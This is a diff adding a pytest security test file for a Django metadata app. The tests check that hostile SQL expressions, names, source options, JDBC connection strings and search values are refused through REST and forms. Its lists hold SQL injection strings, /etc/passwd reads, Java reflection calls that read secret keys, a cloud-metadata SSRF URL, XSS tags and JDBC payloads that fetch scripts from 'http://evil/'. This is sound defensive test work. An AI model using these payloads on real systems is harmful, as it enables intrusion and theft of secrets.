@@ -1,0 +1,232 @@
+"""SQL by way of names, expressions, filters, options and searches: through forms and through REST."""
+
+from collections.abc import Callable
+from typing import Any
+
+import pytest
+import sqlglot
+from django.http import HttpResponse
+from django.test import Client
+from sqlglot import exp
+
+from loader.statements import statements
+from metadata.models import SourceDataset, TargetColumn, TargetDataset, TargetSchema
+from tests.attacks.sending import REFUSED, must_be_refused, send
+from tests.web.forms import typed
+from tests.web.reading import text_of
+
+pytestmark = pytest.mark.django_db
+
+EXPRESSIONS = [
+    "name; DROP TABLE rawcore.rc_air_airport",
+    "name) FROM secrets; --",
+    "(SELECT max(password) FROM auth_user)",
+    "name FROM other",
+    "EXISTS (SELECT 1 FROM other)",
+    "name IN (SELECT name FROM other)",
+    "name /* */ ; DELETE FROM x",
+    "reflect('java.lang.Runtime', 'getRuntime')",
+    "java_method('java.lang.System', 'exit', '1')",
+    "try_reflect('java.lang.System', 'getenv', 'ELEVATA_SECRET_KEY')",
+    "read_files('/etc/passwd')",
+    "from_csv(name, 'a int')",
+    "input_file_name()",
+    "assert_true(false)",
+    "raise_error('x')",
+    "current_user()",
+    "session_user",
+    "now()",
+    "rand()",
+    "uuid()",
+    "count(*)",
+    "sum(elevation) OVER (ORDER BY name)",
+    "transform(array(name), x -> x)",
+    "ai_query('x', name)",
+    "http_request('GET', 'http://169.254.169.254/')",
+    "secret('scope', 'key')",
+    "${env:ELEVATA_SECRET_KEY}",
+    "{{ data_dir }}",
+    "{{ load_run_id; }}",
+    "name' OR '1'='1",
+    "`name`` ; DROP TABLE x --`",
+    "\\'; DROP TABLE x; --",
+    "a.b.c.d(name)",
+    "CASE WHEN (SELECT 1) = 1 THEN name END",
+    "name AS other",
+    "*",
+    "rc_air_airport.*",
+    "/*+ BROADCAST(x) */ name; SELECT 1",
+    "(" * 5000 + "name" + ")" * 5000,
+]
+NAMES = [
+    "rc_x; DROP TABLE y",
+    "rc_x`",
+    "rc_x' OR '1'='1",
+    'rc_x"',
+    "rc_x--",
+    "rc_x/**/",
+    "../../rc_x",
+    "rc x",
+    "rc_x\nrc_y",
+    "rc_x\u202e",
+    "rс_x",  # the second letter is Cyrillic
+    "default.rc_x",
+    "delta.`/etc`",
+    "{{ name }}",
+    "{% load x %}",
+    "<script>alert(1)</script>",
+    "x" * 300,
+    "",
+]
+COLUMN_NAMES = [
+    "a`, (SELECT 1) AS `b",
+    "a` FROM x; DROP TABLE y; --",
+    "'; DROP TABLE x; --",
+    "a b",
+    "a.b",
+    "{{ data_dir }}",
+    "`",
+    "``",
+    "-- a",
+    "/* a */",
+    "<script>alert(1)</script>",
+]
+
+
+@pytest.fixture
+def column(airport: TargetDataset) -> TargetColumn:
+    return airport.columns.get(name="name")
+
+
+def taken(attempt: Callable[[str], HttpResponse], texts: list[str]) -> list[tuple[str, int]]:
+    """Of the texts, those that were not refused, with the answer's status."""
+    answered = [(text[:60], attempt(text).status_code) for text in texts]
+    return [(text, status) for text, status in answered if status not in REFUSED]
+
+
+def expression_of(column: TargetColumn) -> str:
+    return TargetColumn.objects.get(pk=column.pk).expression
+
+
+def test_a_hostile_expression_is_refused_by_rest(operator: Client, column: TargetColumn):
+    before, address = expression_of(column), f"columns/{column.key}/"
+    assert taken(lambda text: send(operator, "patch", address, {"expression": text}), EXPRESSIONS) == []
+    assert expression_of(column) == before
+
+
+def test_a_hostile_expression_is_refused_by_the_form(operator: Client, column: TargetColumn):
+    before, address = expression_of(column), f"/columns/{column.key}/edit/"
+    page = text_of(operator, address)
+    assert taken(lambda text: operator.post(address, typed(page, expression=text)), EXPRESSIONS) == []
+    assert expression_of(column) == before
+
+
+def test_a_hostile_filter_is_refused_by_rest(operator: Client, airport: TargetDataset):
+    before, address = airport.filter, f"datasets/{airport.key}/"
+    assert taken(lambda text: send(operator, "patch", address, {"filter": text}), EXPRESSIONS) == []
+    assert TargetDataset.objects.get(pk=airport.pk).filter == before
+
+
+def test_a_hostile_name_of_a_table_is_refused_by_rest(operator: Client, airport: TargetDataset):
+    count, address = TargetDataset.objects.count(), f"datasets/{airport.key}/"
+    tag = operator.get(f"/api/v1/{address}").headers["ETag"]
+    body = {"schema": "rawcore"}
+    assert taken(lambda name: send(operator, "post", "datasets/", body | {"name": name}), NAMES) == []
+    rename = f"{address}rename/"
+    assert taken(lambda name: send(operator, "post", rename, {"name": name}, **{"If-Match": tag}), NAMES) == []
+    assert TargetDataset.objects.count() == count
+    assert TargetDataset.objects.get(pk=airport.pk).name == "rc_air_airport"
+
+
+def test_a_hostile_name_of_a_table_is_refused_by_the_form(operator: Client, airport: TargetDataset):
+    count, page = TargetDataset.objects.count(), text_of(operator, "/datasets/new/")
+    shown: list[str] = []
+
+    def make(name: str) -> HttpResponse:
+        answer = operator.post("/datasets/new/", typed(page, having="name", name=name))
+        shown.append(answer.content.decode())
+        return answer
+
+    assert taken(make, NAMES) == []
+    assert not any("<script>alert" in text for text in shown)
+    assert TargetDataset.objects.count() == count
+
+
+def test_a_hostile_name_of_a_schema_is_refused(operator: Client):
+    assert taken(lambda name: send(operator, "post", "schemas/", {"name": name, "layer": "serving"}), NAMES) == []
+    assert not TargetSchema.objects.exists()
+
+
+@pytest.mark.parametrize("name", COLUMN_NAMES)
+def test_whatever_a_column_is_called_it_stays_one_name_in_one_statement(
+    operator: Client, airport: TargetDataset, source: SourceDataset, name: str
+):
+    """Columns may be called anything that can be delivered: quoted, it is a name and nothing else."""
+    answer = send(
+        operator, "post", "source-columns/", {"source_dataset": str(source.key), "name": name, "type": "string"}
+    )
+    if answer.status_code != 201:
+        must_be_refused(answer)
+        return
+    assert send(operator, "post", f"source-datasets/{source.key}/generate/").status_code == 200
+    for statement in statements(TargetDataset.objects.get(name="rc_air_airport")):
+        assert not statement.problem, statement.problem
+        for parsed in sqlglot.parse(statement.sql, read="spark"):
+            assert not list(parsed.find_all(exp.Drop, exp.Delete)) if parsed else True
+    page = text_of(operator, f"/datasets/{airport.key}/")
+    assert "<script>alert" not in page
+
+
+@pytest.mark.parametrize(
+    "options",
+    [
+        {"path": "/etc/passwd"},
+        {"dbtable": "(SELECT * FROM pg_shadow) x"},
+        {"query": "SELECT pg_read_file('/etc/passwd')"},
+        {"driver": "com.sun.rowset.JdbcRowSetImpl"},
+        {"url": "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/'"},
+        {"sessionInitStatement": "DROP TABLE x"},
+        {"delimiter": "\n"},
+        {"delimiter": ",,"},
+        {"header": "true; DROP TABLE x"},
+        {"encoding": {"a": 1}},
+        {"columnNameOfCorruptRecord": "x"},
+    ],
+)
+def test_options_that_a_format_does_not_have_are_refused(
+    operator: Client, source: SourceDataset, options: dict[str, Any]
+):
+    must_be_refused(send(operator, "patch", f"source-datasets/{source.key}/", {"options": options}))
+    assert SourceDataset.objects.get(pk=source.pk).options == source.options
+
+
+@pytest.mark.parametrize(
+    "location",
+    [
+        "jdbc:postgresql://db/erp?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext",
+        "jdbc:postgresql://db/erp?sslfactory=x&sslfactoryarg=http://evil/",
+        "jdbc:postgresql://db/erp?options=-c%20log_statement=all",
+        "postgresql://db/erp?sslrootcert=/etc/passwd",
+        "postgresql://db/erp#x",
+        "postgresql:///erp?host=/var/run/postgresql",
+        "postgresql://db:99999/erp",
+    ],
+)
+def test_options_of_a_connection_are_refused(operator: Client, location: str):
+    body = {"short_name": "erp", "name": "ERP", "kind": "jdbc", "location": location}
+    must_be_refused(send(operator, "post", "systems/", body))
+
+
+@pytest.mark.parametrize(
+    "path", ["datasets/", "columns/", "systems/", "source-datasets/", "notices/", "webhooks/", "deliveries/"]
+)
+def test_a_search_is_only_text(operator: Client, airport: TargetDataset, path: str):
+    for q in ("' OR 1=1 --", "a' UNION SELECT password FROM auth_user --", "%' --", "\\' OR 1 --"):
+        answer = operator.get(f"/api/v1/{path}", {"q": q})
+        assert (answer.status_code, answer.json()["results"]) == (200, [])
+    assert operator.get(f"/api/v1/{path}", {"q": "\x00"}).status_code in (200, 400)
+
+
+def test_an_order_is_one_of_those_that_there_are(operator: Client, airport: TargetDataset):
+    orders = ["password", "person__password", "name; DROP TABLE x", "?", "schema__datasets__name"]
+    assert taken(lambda order: operator.get("/api/v1/datasets/", {"ordering": order}), orders) == []
